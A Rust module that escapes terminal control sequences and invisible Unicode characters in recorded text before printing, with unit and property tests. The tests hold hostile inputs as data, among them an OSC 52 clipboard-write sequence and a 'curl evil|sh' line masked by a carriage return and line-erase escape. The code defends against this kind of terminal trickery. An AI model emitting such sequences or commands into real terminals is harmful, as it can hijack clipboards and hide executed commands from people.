//! Makes recorded text safe to print: what a terminal would obey, or an eye would miss, is shown as an escape.

use std::borrow::Cow;
use std::fmt::Write as _;

/// Columns between tab stops.
const TAB: usize = 8;

/// `text` with every control or invisible character but the line feed as a visible escape, and tabs as blanks.
///
/// Shown as escapes are: C0 and C1 controls and DEL (`\e`, `\r`, `\x07`, `\u{9b}`), bidirectional overrides and
/// isolates, zero-width characters, blanks that take no room, tag characters, line and paragraph separators. The result
/// has no control character but the line feed.
pub fn visible(text: &str) -> Cow<'_, str> {
    escaped(text, Lines::Kept)
}

/// As [`visible`], on one line: line feeds are shown as `\n`.
pub fn visible_line(text: &str) -> Cow<'_, str> {
    escaped(text, Lines::Shown)
}

/// `value` as JSON on one line, with what [`visible`] would show as an escape escaped the JSON way.
pub fn visible_json(value: &serde_json::Value) -> String {
    let text = value.to_string();
    let Some(first) = text.find(must_be_shown) else { return text };
    let mut out = text[..first].to_owned();
    let mut units = [0; 2];
    for c in text[first..].chars() {
        match must_be_shown(c) {
            false => out.push(c),
            true => c.encode_utf16(&mut units).iter().for_each(|unit| out.push_str(&format!("\\u{unit:04x}"))),
        }
    }
    out
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Lines {
    Kept,
    Shown,
}

fn escaped(text: &str, lines: Lines) -> Cow<'_, str> {
    let plain = |c: char| !must_be_shown(c) || (c == '\n' && lines == Lines::Kept);
    let Some(first) = text.find(|c| !plain(c)) else { return Cow::Borrowed(text) };
    let mut out = String::with_capacity(text.len() + 16);
    out.push_str(&text[..first]);
    let mut column = out.rsplit('\n').next().map_or(0, |line| line.chars().count());
    for c in text[first..].chars() {
        let before = out.len();
        match c {
            '\n' if lines == Lines::Kept => {
                out.push('\n');
                column = 0;
                continue;
            }
            '\t' => out.extend(std::iter::repeat_n(' ', TAB - column % TAB)),
            c if plain(c) => {
                out.push(c);
                column += 1;
                continue;
            }
            c => push_escape(&mut out, c),
        }
        column += out.len() - before;
    }
    Cow::Owned(out)
}

fn push_escape(out: &mut String, c: char) {
    let written = match c {
        '\n' => out.write_str("\\n"),
        '\r' => out.write_str("\\r"),
        '\u{1b}' => out.write_str("\\e"),
        c if c.is_ascii() => write!(out, "\\x{:02x}", u32::from(c)),
        c => write!(out, "\\u{{{:x}}}", u32::from(c)),
    };
    written.expect("a string takes all that is written");
}

/// Whether a character does something other than show itself, or shows nothing.
pub fn must_be_shown(c: char) -> bool {
    if c.is_ascii() {
        return c.is_ascii_control();
    }
    matches!(c,
        '\u{80}'..='\u{9f}'                       // C1 controls
        | '\u{ad}' | '\u{34f}' | '\u{61c}'        // soft hyphen, joiner, Arabic letter mark
        | '\u{115f}' | '\u{1160}' | '\u{3164}' | '\u{ffa0}' // Hangul fillers
        | '\u{17b4}' | '\u{17b5}'                 // Khmer inherent vowels
        | '\u{180b}'..='\u{180f}'                 // Mongolian selectors
        | '\u{200b}'..='\u{200f}'                 // zero width, direction marks
        | '\u{2028}'..='\u{202e}'                 // separators, bidirectional overrides
        | '\u{2060}'..='\u{206f}'                 // word joiner, invisible operators, isolates
        | '\u{2800}'                              // blank Braille pattern
        | '\u{fe00}'..='\u{fe0d}'                 // variation selectors but those of text and emoji
        | '\u{feff}' | '\u{fff0}'..='\u{fffb}'    // byte order mark, interlinear annotation
        | '\u{1bca0}'..='\u{1bca3}'               // shorthand format controls
        | '\u{1d173}'..='\u{1d17a}'               // musical format controls
        | '\u{e0000}'..='\u{e0fff}'               // tags, further variation selectors
    )
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn ordinary_text_is_left_alone() {
        for text in ["", "loss 0.123\nnext", "żółć 日本語 👍 ❤️ e\u{301}", "C:\\x1b is text"] {
            assert!(matches!(visible(text), Cow::Borrowed(same) if same == text), "{text:?}");
        }
    }

    #[test]
    fn what_a_terminal_would_obey_is_shown() {
        for (text, shown) in [
            ("\u{1b}]52;c;ZXZpbA==\u{7}", r"\e]52;c;ZXZpbA==\x07"),
            ("\u{1b}[2J\u{1b}[1A", r"\e[2J\e[1A"),
            ("curl evil|sh\r\u{1b}[2Kcommand: ls", r"curl evil|sh\r\e[2Kcommand: ls"),
            ("\u{9b}31m\u{90}\u{9d}", r"\u{9b}31m\u{90}\u{9d}"),
            ("\u{1b}[201~", r"\e[201~"),
            ("\u{7f}\0\u{8}", r"\x7f\x00\x08"),
        ] {
            assert_eq!(visible(text), shown);
        }
    }

    #[test]
    fn what_an_eye_would_miss_is_shown() {
        for (text, shown) in [
            ("a\u{202e}b\u{2066}", r"a\u{202e}b\u{2066}"),
            ("r\u{200b}m", r"r\u{200b}m"),
            ("x\u{e0041}\u{e007f}", r"x\u{e0041}\u{e007f}"),
            ("a\u{2028}b\u{2029}", r"a\u{2028}b\u{2029}"),
            ("\u{feff}x\u{ad}", r"\u{feff}x\u{ad}"),
        ] {
            assert_eq!(visible(text), shown);
        }
    }

    #[test]
    fn tabs_become_blanks_up_to_the_next_stop() {
        assert_eq!(visible("a\tb\n\tc"), "a       b\n        c");
        assert_eq!(visible("é\u{1b}\tb"), "é\\e     b");
    }

    #[test]
    fn one_line_stays_one_line() {
        assert_eq!(visible_line("a\nb\r\n"), r"a\nb\r\n");
    }

    proptest! {
        #[test]
        fn nothing_but_the_line_feed_controls(text in any::<String>()) {
            prop_assert!(!visible(&text).chars().any(|c| c != '\n' && (c.is_control() || must_be_shown(c))));
            prop_assert!(!visible_line(&text).chars().any(|c| c.is_control()));
        }

        #[test]
        fn json_is_harmless_and_means_the_same(text in any::<String>()) {
            let value = serde_json::json!({ "text": format!("\u{7f}\u{e0041}{text}") });
            let json = visible_json(&value);
            prop_assert!(!json.chars().any(must_be_shown));
            prop_assert_eq!(serde_json::from_str::<serde_json::Value>(&json).unwrap(), value);
        }

        #[test]
        fn showing_twice_is_showing_once(text in any::<String>()) {
            let once = visible(&text).into_owned();
            prop_assert_eq!(visible(&once), once.as_str());
        }
    }
}
